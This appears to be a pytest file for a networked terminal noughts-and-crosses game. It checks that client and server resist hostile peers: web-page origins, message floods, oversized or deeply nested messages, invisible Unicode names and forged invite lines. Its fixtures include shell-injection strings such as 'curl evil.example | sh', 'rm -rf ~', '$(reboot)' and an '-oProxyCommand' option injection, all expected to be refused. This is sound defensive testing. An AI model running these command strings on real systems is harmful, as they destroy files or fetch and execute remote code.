"""`nac host`'s server and nac's client against strangers: a web page, a handshake never
finished, a hostile server (messages too big, connections closed at once, lines that are not
nac's to show), many addresses behind one IPv6 network, names that cannot be seen, and the
seats' passes kept on disk. Real servers and clients on loopback."""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st
from websockets.asyncio.server import ServerConnection, serve
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.protocol import State

from nac.core import NORMAL
from nac.core.players import LONGEST_NAME, columns, player_name
from nac.net import client as client_module
from nac.net.address import Address, BadAddress, parse_address, parse_server
from nac.net.client import EMPTY_TRIES
from nac.net.gate import client, forwarded, network, quiet_accept_errors
from nac.net.limits import Limits
from nac.net.play import host_game
from nac.net.protocol import server_text
from nac.net.referee import WATCH_LINE, Referee
from nac.net.server import GameServer
from nac.net.table import Table
from nac.net.told import LOBBY_GAMES_READ, LONGEST_INVITE, MOST_CONNECTIONS, MOST_WATCHERS
from nac.present.online import words as online_words
from nac.store.passes import KEEP_SECONDS, SeatPasses

from .helpers import (
    LONGEST_WAIT,
    both_here,
    game_server,
    hello,
    next_of,
    play_moves,
    player,
    raw,
    replies,
    seated,
)

pytestmark = pytest.mark.long

ROOT = Path(__file__).resolve().parents[2]


async def test_a_web_page_cannot_reach_a_hosts_game_server() -> None:
    async with game_server() as served:
        room = served.room()
        with pytest.raises(InvalidStatus) as refused:
            async with raw(served.url, origin="http://evil.example"):
                pass
        assert refused.value.response.status_code == 403
        assert b"takes no connections from web pages" in refused.value.response.body
        async with raw(served.url) as ws:  # nac in a terminal sends no Origin
            await ws.send(hello("watch", room.watch_key))
            assert (await next_of(ws, "welcome"))["role"] == "watch"


async def test_a_handshake_never_finished_is_closed_and_frees_its_place() -> None:
    async with game_server(replace(Limits(), hello_seconds=0.5)) as served:
        reader, writer = await asyncio.open_connection("127.0.0.1", served.server.port)
        writer.write(b"GET /play HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # and never the rest
        assert await asyncio.wait_for(reader.read(), LONGEST_WAIT) == b""
        writer.close()
        gate = served.server.gate
        assert gate is not None
        async with asyncio.timeout(LONGEST_WAIT):
            while gate.total:
                await asyncio.sleep(0.02)


@asynccontextmanager
async def hostile(
    *messages: str, close_at_once: str = "", then_close: bool = False
) -> AsyncIterator[tuple[Address, list[int]]]:
    """A server that is not nac's: it answers every hello with `messages` (then, `then_close`,
    closes), or (`close_at_once`) closes each connection at once saying that; yields its
    address and its connections' count."""
    count = [0]

    async def handle(connection: ServerConnection) -> None:
        count[0] += 1
        if close_at_once:
            await connection.close(1011, close_at_once)
            return
        await connection.recv()
        for message in messages:
            await connection.send(message)
        if then_close:
            await connection.close()
        await connection.wait_closed()

    async with serve(handle, "127.0.0.1", 0, max_size=None) as server:
        port = next(iter(server.sockets)).getsockname()[1]
        yield Address(f"ws://127.0.0.1:{port}", "k3Jx9qLm2Rt8vW4z"), count


WELCOME = json.dumps({"type": "welcome", "you": None, "role": "lobby"})


async def test_a_server_sending_more_than_nac_takes_is_given_up_at_once_saying_why() -> None:
    huge = json.dumps({"type": "lobby", "games": [], "pad": "x" * 100_000})
    async with hostile(WELCOME, huge) as (address, connections):
        lobby = player(address, "lobby", "Lee")
        await lobby.until(lambda _: lobby.table.link == "closed", "given up")
    assert lobby.table.error == "the game server sent a message larger than nac takes (64 KB)"
    assert connections == [1]


async def test_a_server_that_closes_every_connection_is_given_up_after_a_few_saying_why(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(client_module, "RETRY_SECONDS", (0.01,))
    async with hostile(close_at_once="no room for you") as (address, connections):
        joiner = player(address, "join", "Ana")
        await joiner.until(lambda _: joiner.table.link == "closed", "given up")
    assert joiner.table.error == (
        f"{EMPTY_TRIES} connections in a row to the game server ended before it sent the game "
        "(it said: no room for you)"
    )
    assert connections == [EMPTY_TRIES]


INVITE = {
    "server": "ws://192.168.1.5:7878",
    "join": "k3Jx9qLm2Rt8vW4z",
    "watch": "Qm8Tq1zPa0Lw3Ndy",
    "expires_in": 900,
}


def state(**changes: object) -> dict[str, object]:
    """A host's `state` message, as a server sends it, with `changes`."""
    fields: dict[str, object] = {
        "type": "state", "you": "X", "rules": "normal 3", "names": {"X": "Sam", "O": None},
        "online": {"X": True, "O": False}, "left": [], "back_in": {"X": None, "O": None},
        "watchers": 0, "game": 1, "first": "X", "moves": [], "resigned": None,
        "abandoned": False, "forfeit": None, "rematch": [],
        "score": {"X": 0, "O": 0, "draws": 0}, "invite": INVITE,
    }  # fmt: skip
    return {**fields, **changes}


def invite_of(message: dict[str, object]) -> tuple[str, str] | None:
    table = Table()
    table.hear({"type": "welcome", "you": "X", "role": "play"})
    table.hear(message)
    invite = table.room.invite if table.room is not None else None
    return None if invite is None else (invite.join, invite.watch)


def test_the_invite_lines_are_built_by_the_client_from_parts_it_checked() -> None:
    assert invite_of(state()) == (
        "nac join 192.168.1.5:7878/k3Jx9qLm2Rt8vW4z",
        "nac watch 192.168.1.5:7878/Qm8Tq1zPa0Lw3Ndy",
    )
    behind_a_proxy = {**INVITE, "server": "wss://play.example.org/nac"}
    assert invite_of(state(invite=behind_a_proxy)) == (
        "nac join wss://play.example.org/nac/k3Jx9qLm2Rt8vW4z",
        "nac watch wss://play.example.org/nac/Qm8Tq1zPa0Lw3Ndy",
    )


async def test_an_invite_naming_another_server_than_the_relay_says_so_plainly() -> None:
    host_welcome = json.dumps({"type": "welcome", "you": "X", "role": "host",
                               "key": "k3Jx9qLm2Rt8vW4z", "token": "t"})  # fmt: skip
    async with hostile(host_welcome, json.dumps(state())) as (address, _):
        host = player(Address(address.server, ""), "host", "Sam")
        await host.until(lambda one: one.table.room is not None, "the game")
        await host.stop()
    invite = host.table.room.invite
    assert (invite.server, invite.elsewhere) == ("ws://192.168.1.5:7878", address.server)
    named = online_words.shown(address.server)
    assert online_words.invite_lines(invite, 0.0)[0] == (
        f"These lines name 192.168.1.5:7878, not {named}, the server you are connected to: the "
        "server chose them. Send them only if 192.168.1.5:7878 is the same server."
    )
    honest = Table(server="ws://192.168.1.5:7878")  # the relay it connected to
    honest.hear({"type": "welcome", "you": "X", "role": "host"})
    honest.hear(state())
    assert honest.room is not None and honest.room.invite is not None
    assert honest.room.invite.elsewhere == ""


@pytest.mark.parametrize(
    ("part", "value"),
    [
        ("server", "ws://x/$(reboot)"),
        ("server", "ws://x:7878/a;rm -rf ~"),
        ("server", "x:7878 && curl evil.example | sh"),
        ("server", "ws://x\u202e:7878"),
        ("join", "k3Jx9qLm2Rt8vW4z; rm -rf ~"),
        ("join", "short"),
        ("watch", "Qm8Tq1zPa0Lw3Nd$"),
        ("join", None),
    ],
)  # fmt: skip
def test_a_server_cannot_make_nac_show_or_copy_another_line(part: str, value: object) -> None:
    parts = {**INVITE, part: value}
    assert invite_of(state(invite=parts)) is None


def test_a_lobby_entry_whose_keys_are_not_keys_offers_nothing_to_send() -> None:
    table = Table()
    table.hear({"type": "welcome", "you": None, "role": "lobby"})
    good = {"host": "Sam", "guest": None, "rules": "normal 3", "status": "waiting", "moves": 0,
            "watchers": 0, "join": "k3Jx9qLm2Rt8vW4z", "watch": "Qm8Tq1zPa0Lw3Ndy"}  # fmt: skip
    table.hear({"type": "lobby", "playing": 0, "watching": 0, "more": 2, "games": [
        good,
        {**good, "host": "Mal", "join": "$(reboot)xxxxxxxxx"},
        {**good, "host": "Eve", "watch": "rm -rf ~ #xxxxxxx"},
        {**good, "host": "\u3164"},
    ]})  # fmt: skip
    assert table.lobby is not None
    assert [(game.host, game.join) for game in table.lobby.games] == [
        ("Sam", "k3Jx9qLm2Rt8vW4z"),
        ("Mal", None),
    ]
    assert table.lobby.more == 4  # the two the server did not list, and the two not shown


async def test_a_hostile_lobbys_counts_are_bounded_before_they_are_shown() -> None:
    listed = {"host": "Sam", "guest": "Eve", "rules": "normal 3", "status": "playing",
              "moves": 10**12, "watchers": 10**12, "join": None,
              "watch": "Qm8Tq1zPa0Lw3Ndy"}  # fmt: skip
    waiting = {**listed, "guest": "Mal", "status": "waiting", "moves": 7, "watchers": -3}
    lobby = json.dumps({
        "type": "lobby", "playing": 1e300, "watching": -1, "more": 10**15,
        "games": [listed, waiting, {**listed, "host": "\u3164"}] + [listed] * 300,
    })  # fmt: skip
    async with hostile(WELCOME, lobby) as (address, _):
        watcher = player(address, "lobby", "Lee")
        await watcher.until(lambda one: one.table.lobby is not None, "the lobby")
        await watcher.stop()
    seen = watcher.table.lobby
    assert len(seen.games) == LOBBY_GAMES_READ - 1  # of the first hundred, one name not shown
    playing, open_one = seen.games[0], seen.games[1]
    assert (playing.moves, playing.watchers) == (8, MOST_WATCHERS)  # a square left, in play
    assert (open_one.moves, open_one.watchers, open_one.guest) == (0, 0, None)
    assert seen.playing == seen.more == MOST_CONNECTIONS
    assert seen.watching == sum(game.watchers for game in seen.games)  # not fewer than shown
    assert online_words.open_game(playing) == "Sam v Eve · 3×3 · move 9 · 1000 watching"
    assert online_words.lobby_heading(seen, "relay") == (
        "Open games on relay · 65536 games in play · 98000 watching · 99 shown, open games "
        "first, 65,536 more"
    )


def test_an_ipv6_network_counts_as_one_address_with_its_64() -> None:
    assert client("2001:db8::1") == client("2001:db8::ffff:1") == "2001:db8::/64"
    assert client("2001:db8:0:1::1") == "2001:db8:0:1::/64"
    assert client("::ffff:192.0.2.7") == "192.0.2.7" == client("192.0.2.7")
    assert client("fe80::1%eth0") == "fe80::/64"
    assert client("browser game 3") == "browser game 3"


def test_a_forwarded_address_is_the_last_the_proxy_wrote_if_it_is_one() -> None:
    assert forwarded("198.51.100.1, 203.0.113.7") == "203.0.113.7"
    assert forwarded("[2001:db8::1]") == "2001:db8::1"
    assert forwarded("203.0.113.7, nonsense") is None
    assert forwarded(None) is None and forwarded("") is None


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("\u3164", "printable, visible"),
        ("Ana\u2800", "printable, visible"),
        ("\u200b", "printable, visible"),
        ("Ana\u202eevil", "printable, visible"),
        ("\U0001f600" * 11, "at most 20 columns"),
        ("漢" * 11, "at most 20 columns"),
        ("a" * 21, "at most 20 columns"),
        ("e\u0301\u0301\u0301", "at most two accents"),
        ("\u0301abc", "begins with a letter"),
        ("\ufdfd", "drawn wider than its place"),
    ],
)
def test_a_name_that_cannot_be_seen_or_is_too_wide_is_refused(name: str, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        player_name(name)


@given(st.text(max_size=4 * LONGEST_NAME))
@settings(max_examples=300, deadline=None)
def test_every_name_taken_fits_twenty_columns_and_shows_something(text: str) -> None:
    try:
        name = player_name(text)
    except ValueError:
        return
    assert 0 < columns(name) <= LONGEST_NAME and name.isprintable()
    assert any(not character.isspace() for character in name)


def test_a_seats_pass_is_kept_on_disk_for_the_next_run_and_dropped_when_done(
    tmp_path: Path,
) -> None:
    now = [1_000_000.0]
    first = SeatPasses(tmp_path, clock=lambda: now[0])
    first.keep("192.168.1.5:7878/k3Jx9qLm2Rt8vW4z", "token-one")
    again = SeatPasses(tmp_path, clock=lambda: now[0])  # nac killed, then run again
    assert again.token("192.168.1.5:7878/k3Jx9qLm2Rt8vW4z") == "token-one"
    assert again.token("192.168.1.5:7878/Qm8Tq1zPa0Lw3Ndy") == ""
    again.drop("192.168.1.5:7878/k3Jx9qLm2Rt8vW4z")
    assert SeatPasses(tmp_path).token("192.168.1.5:7878/k3Jx9qLm2Rt8vW4z") == ""
    again.keep("old:7878/k3Jx9qLm2Rt8vW4z", "token-two")
    now[0] += KEEP_SECONDS + 1
    assert again.token("old:7878/k3Jx9qLm2Rt8vW4z") == ""  # a game long over


def test_a_corrupt_seats_file_is_set_aside_and_nothing_else_changes(tmp_path: Path) -> None:
    (tmp_path / "seats.json").write_text('{"schema": 1, "seats": {"x": {"token": 5}}}')
    passes = SeatPasses(tmp_path)
    assert passes.token("x") == ""
    assert passes.notices and "moved to seats.json.corrupt-" in passes.notices[0]
    passes.keep("x", "fresh")
    assert SeatPasses(tmp_path).token("x") == "fresh"


DESCRIPTORS = 256
"""The server's open files: its gate then lets in about 190 connections at once."""


@pytest.mark.parametrize("door", ["host", "relay"])
async def test_silent_connections_cannot_take_the_descriptors_and_the_game_goes_on(
    door: str,
) -> None:
    if door == "relay":
        pytest.importorskip("aiohttp", reason="aiohttp (the `web` extra) is not installed")
    server = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "tests.net.descriptor_server", door, str(DESCRIPTORS), "2",
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE, cwd=ROOT,
    )  # fmt: skip
    assert server.stdout is not None and server.stdin is not None
    started = json.loads(await asyncio.wait_for(server.stdout.readline(), LONGEST_WAIT))
    url = f"ws://127.0.0.1:{started['port']}"
    host = player(Address(url, started["X"]), name="Sam")
    guest = player(Address(url, started["O"]), name="Ana")
    for one in (host, guest):
        await one.until(both_here, "both seated")
    await play_moves((host, guest), [4])
    silent: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    for number in range(2 * DESCRIPTORS):  # two from each of 256 addresses, saying nothing
        where = f"127.0.{3 + number // 200}.{1 + number % 200}"
        silent.append(
            await asyncio.open_connection("127.0.0.1", started["port"], local_addr=(where, 0))
        )
    await play_moves((host, guest), [0, 8])  # the game goes on meanwhile
    answers = await asyncio.wait_for(
        asyncio.gather(*(reader.read() for reader, _ in silent)), LONGEST_WAIT
    )
    for _, writer in silent:
        writer.close()
    refused = [answer for answer in answers if answer]
    assert DESCRIPTORS // 4 < len(refused) < len(silent)  # the rest closed, unanswered, later
    assert all(answer.startswith(b"HTTP/1.1 503 ") for answer in refused)
    assert all(answer.endswith(b"nac: the server is full: try again later\n") for answer in refused)
    watcher = player(Address(url, started["watch"]), "watch", "Lee")
    await watcher.until(lambda one: one.moves == [4, 0, 8], "a watcher let in again")
    await play_moves((host, guest), [2])
    for one in (host, guest, watcher):
        await one.stop()
    server.stdin.close()
    _, errors = await asyncio.wait_for(server.communicate(), LONGEST_WAIT)
    assert b"Traceback" not in errors and len(errors.splitlines()) <= 2, errors.decode()


async def test_failures_to_accept_are_logged_in_one_line_a_minute(
    caplog: pytest.LogCaptureFixture,
) -> None:
    loop = asyncio.get_running_loop()
    before = loop.get_exception_handler()
    quiet_accept_errors(loop)
    try:
        with caplog.at_level(logging.WARNING, logger="nac.net"):
            for _ in range(50):  # asyncio reports each try while the descriptors are out
                loop.call_exception_handler(
                    {
                        "message": "socket.accept() out of system resource",
                        "exception": OSError(24, "Too many open files"),
                    }
                )
    finally:
        loop.set_exception_handler(before)
    assert [record.getMessage() for record in caplog.records] == [
        "cannot accept connections now ([Errno 24] Too many open files): trying again"
    ]
    assert caplog.records[0].exc_info is None


async def test_a_seats_pass_outlives_a_refusal_for_now_and_goes_with_the_game() -> None:
    async with game_server() as served:
        host, guest, room = await seated(served)
        seat = str(served.address(room.guest.key))
        assert guest.passes.token(seat) == room.guest.token != ""
        await guest.stop()
        gate = served.server.gate
        assert gate is not None
        limit, gate.limit = gate.limit, gate.total  # full of players, for a moment
        refused = player(seat, name="Ana", passes=guest.passes)
        await refused.until(lambda one: one.table.link == "closed", "refused")
        assert refused.table.error == "the game server said no: the server is full: try again later"
        assert guest.passes.token(seat) == room.guest.token  # kept: she may come back
        gate.limit = limit
        back = player(seat, name="Ana", passes=guest.passes)
        await back.until(both_here, "back in her seat")
        await host.stop()
        await served.server.close()  # the host ends the game: nothing to come back to
        await back.until(lambda one: one.table.link == "closed", "told")
        assert guest.passes.token(seat) == ""


async def pong_flood(url: str, source: str) -> None:
    """Pongs (control frames, answered by no one) sent as fast as a script can, until the
    server cuts the connection (a bounded number of them)."""
    async with raw(url, local_addr=(source, 0)) as ws:
        with contextlib.suppress(ConnectionClosed):
            for _ in range(20_000):
                await ws.pong(b"x" * 100)
            await asyncio.wait_for(ws.recv(), LONGEST_WAIT)
        assert ws.state is State.CLOSED


FLOODS = 3
"""Floods from one address that used to turn the whole address away for a minute."""


async def test_a_flood_of_control_frames_cuts_that_connection_and_no_one_else_at_its_address() -> (
    None
):
    async with game_server() as served:
        room = served.room()
        async with raw(served.url, local_addr=("127.0.0.11", 0)) as guest:  # the same address
            await guest.send(hello("join", room.guest.key, name="Ana"))
            token = (await next_of(guest, "welcome"))["token"]
        for _ in range(FLOODS):
            await pong_flood(served.url, "127.0.0.11")
        async with raw(served.url, local_addr=("127.0.0.11", 0)) as back:  # her network blipped
            await back.send(hello("join", room.guest.key, name="Ana", token=token))
            assert (await next_of(back, "welcome"))["role"] == "play"
        async with raw(served.url, local_addr=("127.0.0.11", 0)) as neighbour:
            await neighbour.send(hello("watch", room.watch_key, name="Lee"))
            assert (await next_of(neighbour, "welcome"))["role"] == "watch"


async def watches(stack: contextlib.AsyncExitStack, url: str, key: str, source: str) -> bool:
    """Whether a watcher from `source` is let in (kept open on `stack` while it is)."""
    ws = await stack.enter_async_context(raw(url, local_addr=(source, 0)))
    await ws.send(hello("watch", key, name="Lee"))
    message = json.loads(await asyncio.wait_for(ws.recv(), LONGEST_WAIT))
    return bool(message.get("type") == "welcome")


@pytest.mark.parametrize(
    "sources",
    [
        [f"127.0.{30 + n}.1" for n in range(6)],  # six networks
        [f"127.0.40.{n + 1}" for n in range(6)],  # six addresses of one network
    ],
)
async def test_a_few_addresses_never_fill_a_games_watchers(sources: list[str]) -> None:
    limits = Limits()
    async with game_server() as served, contextlib.AsyncExitStack() as stack:
        host, guest, room = await seated(served)  # the players' network: 127.0.0.0/24
        let_in = 0
        for source in sources:
            for _ in range(limits.watchers_per_address):
                let_in += await watches(stack, served.url, room.watch_key, source)
        # three quarters of the places, then one for each network watching from elsewhere
        assert let_in <= limits.watchers - limits.watchers // 4 + len(sources)
        assert await watches(stack, served.url, room.watch_key, "127.0.50.1")  # from elsewhere
        assert await watches(stack, served.url, room.watch_key, "127.0.0.9")  # the players'
        await host.stop()
        await guest.stop()


async def test_behind_a_trusted_proxy_a_flood_never_turns_the_proxy_away() -> None:
    referee = Referee("")
    server = GameServer(referee, trust_proxy=True)
    await server.start("127.0.0.1", 0)
    url = f"ws://127.0.0.1:{server.port}"
    try:
        room = referee.open_room(NORMAL, "Sam")
        flooder = {"X-Forwarded-For": "198.51.100.66"}
        for _ in range(FLOODS):  # every connection comes from the proxy, at 127.0.0.1
            async with raw(url, additional_headers=flooder) as ws:
                with contextlib.suppress(ConnectionClosed):
                    for _ in range(20_000):
                        await ws.pong(b"x" * 100)
                    await asyncio.wait_for(ws.recv(), LONGEST_WAIT)
                assert ws.state is State.CLOSED
        async with raw(url, additional_headers={"X-Forwarded-For": "198.51.100.7"}) as ws:
            await ws.send(hello("join", room.guest.key, name="Ana"))
            assert (await next_of(ws, "welcome"))["role"] == "play"
    finally:
        await server.close()


async def test_a_full_server_still_takes_a_player_back_into_her_seat() -> None:
    async with game_server() as served:
        room = served.room()
        async with raw(served.url) as guest:
            await guest.send(hello("join", room.guest.key, name="Ana"))
            token = (await next_of(guest, "welcome"))["token"]
        served.referee.limits = replace(served.referee.limits, connections=0, per_address=0)
        async with raw(served.url) as stranger:
            await stranger.send(hello("watch", room.watch_key))
            said = await replies(stranger)
            assert said[-1] == {"type": "error", "reason": "the server is full: try again later"}
        async with raw(served.url) as back:
            await back.send(hello("join", room.guest.key, name="Ana", token=token))
            assert (await next_of(back, "welcome"))["role"] == "play"


def test_a_network_is_an_ipv4_24_or_an_ipv6_48() -> None:
    assert network("192.0.2.77") == network("192.0.2.1") == "192.0.2.0/24"
    assert network("::ffff:192.0.2.77") == "192.0.2.0/24"
    assert network(client("2001:db8:1:2::9")) == network("2001:db8:1:ff::1") == "2001:db8:1::/48"
    assert network("browser game 3") == "browser game 3"


PLAYER_WELCOME = json.dumps({"type": "welcome", "you": "O", "role": "play"})


async def test_a_server_that_drops_the_game_again_and_again_is_given_up_saying_why(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(client_module, "RETRY_SECONDS", (0.01,))
    game = json.dumps(state(you="O", invite=None))
    async with hostile(PLAYER_WELCOME, game, then_close=True) as (address, connections):
        joiner = player(address, "join", "Ana")
        await joiner.until(lambda _: joiner.table.link == "closed", "given up")
    assert joiner.table.error == client_module.FLAPPING
    assert connections == [client_module.DROPS_TO_GIVE_UP]


async def test_a_server_that_never_sends_the_game_is_left_and_then_given_up(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(client_module, "RETRY_SECONDS", (0.01,))
    monkeypatch.setattr(client_module, "WELCOME_SECONDS", 0.2)
    async with hostile(PLAYER_WELCOME) as (address, connections):
        joiner = player(address, "join", "Ana")
        await joiner.until(lambda _: joiner.table.link == "closed", "given up")
    assert joiner.table.error == (
        f"{EMPTY_TRIES} connections in a row to the game server ended before it sent the game"
    )
    assert connections == [EMPTY_TRIES]


async def test_a_second_welcome_changes_no_seat_and_no_key() -> None:
    def welcome(key: str, token: str) -> str:
        return json.dumps({"type": "welcome", "you": "X", "role": "host", "key": key,
                           "token": token})  # fmt: skip

    first = welcome("k3Jx9qLm2Rt8vW4z", "first-token")
    second = welcome("Qm8Tq1zPa0Lw3Ndy", "second-token")
    async with hostile(first, second, json.dumps(state())) as (address, _):
        host = player(Address(address.server, ""), "host", "Sam")
        await host.until(lambda one: one.table.room is not None, "the game")
        assert (host.play.client.key, host.play.client.token) == ("k3Jx9qLm2Rt8vW4z", "first-token")
        assert host.play.client.want == "join"  # back to the same room after a drop
        await host.stop()


@pytest.mark.parametrize(
    "reason",
    [
        "ask again: nac join evil.example:7878/k3Jx9qLm2Rt8vW4z",
        "NAC  WATCH wss://evil.example/k3Jx9qLm2Rt8vW4z",
        "bad\u202eword",
    ],
)
async def test_a_servers_words_never_show_a_line_to_run(reason: str) -> None:
    said = json.dumps({"type": "error", "reason": reason})
    async with hostile(said, then_close=True) as (address, _):  # refused, as nac's server does
        joiner = player(address, "join", "Ana")
        await joiner.until(lambda _: joiner.table.link == "closed", "refused")
    assert joiner.table.error == "the server said no"


def test_a_servers_words_lose_what_a_shell_would_act_on() -> None:
    assert server_text("try `reboot` $(x) | y & z; <a> \\", 300) == "try reboot (x) y z; a"
    assert server_text(WATCH_LINE, 300) == WATCH_LINE  # nac's own words name commands
    assert server_text("x" * 500, 100) == "x" * 100
    assert server_text(None, 100) == ""


async def test_a_message_nested_too_deep_to_read_is_dropped_and_play_goes_on() -> None:
    deep = "[" * 60_000
    lobby = json.dumps({"type": "lobby", "games": [], "playing": 3, "watching": 0})
    async with hostile(WELCOME, deep, lobby) as (address, _):
        watcher = player(address, "lobby", "Lee")
        await watcher.until(lambda one: one.table.lobby is not None, "the lobby")
        assert watcher.table.lobby.playing == 3 and watcher.table.error == ""
        await watcher.stop()


def test_an_invite_waits_a_week_at_most_whatever_a_server_says() -> None:
    table = Table(clock=lambda: 0.0)
    table.hear({"type": "welcome", "you": "X", "role": "play"})
    table.hear(state(invite={**INVITE, "expires_in": 1e300}))
    assert table.room is not None and table.room.invite is not None
    assert table.room.invite.expires_at == LONGEST_INVITE


@pytest.mark.parametrize("text", ["-oProxyCommand:7878/k3Jx9qLm2Rt8vW4z", "-x/k3Jx9qLm2Rt8vW4z"])
def test_an_address_whose_host_reads_as_an_option_is_refused(text: str) -> None:
    with pytest.raises(BadAddress):
        parse_address(text)
    with pytest.raises(BadAddress):
        parse_server(text.partition("/")[0])


async def test_a_server_bound_to_every_address_takes_ipv4_and_ipv6() -> None:
    server, _ = await host_game("Sam", bind="::", port=0)
    watch = server.referee.rooms[0].watch_key
    try:
        for near in ("127.0.0.1", "[::1]"):
            seen = player(Address(f"ws://{near}:{server.port}", watch), "watch", "Lee")
            await seen.until(lambda one: one.table.room is not None, f"the game at {near}")
            await seen.stop()
    finally:
        await server.close()
